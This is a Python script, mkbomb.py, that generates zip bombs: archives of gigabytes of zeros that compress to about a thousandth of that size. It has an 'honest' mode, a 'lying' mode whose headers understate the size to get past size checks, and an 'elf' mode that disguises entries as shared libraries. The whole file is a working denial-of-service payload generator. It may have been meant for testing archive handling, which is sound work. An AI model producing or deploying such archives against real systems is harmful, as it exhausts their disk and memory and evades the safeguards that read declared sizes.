"""Write a zip bomb: ENTRIES entries of MIB MiB of zeros each, about a
thousandth of that on disk.

usage: mkbomb.py OUT.zip MIB ENTRIES honest|lying|elf
  honest  the headers declare the real size (zip64), as zip(1) writes them
  lying   the headers declare 1000 bytes; only inflating tells the truth
  elf     honest, and every entry starts with the ELF magic, so that
          stripping might in principle shrink it
The deflate stream is one compressed MiB repeated (a full flush resets the
compressor, so every MiB of zeros compresses to the same bytes), which makes
a 10 GiB bomb in well under a second.
"""
import struct
import sys
import zlib

out, mib, entries, mode = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
MIB = 1 << 20


def crc32_zeros(crc, length):
    """zlib.crc32(LENGTH zero bytes, CRC), by squaring zlib's zero-operator
    matrix (crc32_combine's method) instead of hashing gigabytes."""
    def times(mat, vec):
        s = 0
        i = 0
        while vec:
            if vec & 1:
                s ^= mat[i]
            vec >>= 1
            i += 1
        return s

    def square(mat):
        return [times(mat, mat[n]) for n in range(32)]

    odd = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    even = square(odd)  # two zero bits
    odd = square(even)  # four zero bits
    reg = crc ^ 0xFFFFFFFF
    # Each squaring doubles the zeros an operator appends: the first one in
    # the loop makes the operator for one zero byte.
    while length:
        even = square(odd)
        if length & 1:
            reg = times(even, reg)
        length >>= 1
        if not length:
            break
        odd = square(even)
        if length & 1:
            reg = times(odd, reg)
        length >>= 1
    return reg ^ 0xFFFFFFFF


def deflate_stream(first):
    """A deflate stream of FIRST followed by zero bytes up to MIB MiB, as
    (chunks, their count) so that nothing big is ever built in memory."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(first + b"\0" * (MIB - len(first))) + c.flush(zlib.Z_FULL_FLUSH)
    chunk = c.compress(b"\0" * MIB) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(b"\0" * MIB) + c.flush(zlib.Z_FULL_FLUSH)
    assert chunk == again, "a full flush did not reset the compressor"
    return head, chunk, c.flush(zlib.Z_FINISH)


assert crc32_zeros(zlib.crc32(b"x"), 3 * MIB) == zlib.crc32(b"x" + b"\0" * (3 * MIB))
first = b"\x7fELF" if mode == "elf" else b""
head, chunk, tail = deflate_stream(first)
size = mib * MIB
compressed = len(head) + len(chunk) * (mib - 1) + len(tail)
crc = crc32_zeros(zlib.crc32(first), size - len(first))
honest = mode != "lying"
zip64 = honest and (size >= 0xFFFFFFFF or compressed >= 0xFFFFFFFF)
version = 45 if zip64 else 20
central = b""
with open(out, "wb") as f:
    for n in range(entries):
        name = ("zeros-%d.bin" % n if entries > 1 else "zeros.bin").encode()
        if mode == "elf":
            name = ("lib%d.so" % n).encode()
        at = f.tell()
        if zip64:
            local_extra = struct.pack("<HHQQ", 1, 16, size, compressed)
            central_extra = struct.pack("<HHQQQ", 1, 24, size, compressed, at)
            dsize = dcomp = doff = 0xFFFFFFFF
        else:
            local_extra = central_extra = b""
            dsize, dcomp, doff = (size if honest else 1000), compressed, at
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, version, 0, 8, 0, 0x21,
                            crc, dcomp, dsize, len(name),
                            len(local_extra)) + name + local_extra)
        f.write(head)
        for _ in range(mib - 1):
            f.write(chunk)
        f.write(tail)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0300 | version,
                               version, 0, 8, 0, 0x21, crc, dcomp, dsize,
                               len(name), len(central_extra), 0, 0, 0,
                               0o100644 << 16, doff) + name + central_extra
    central_at = f.tell()
    f.write(central)
    f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries,
                        len(central), central_at, 0))
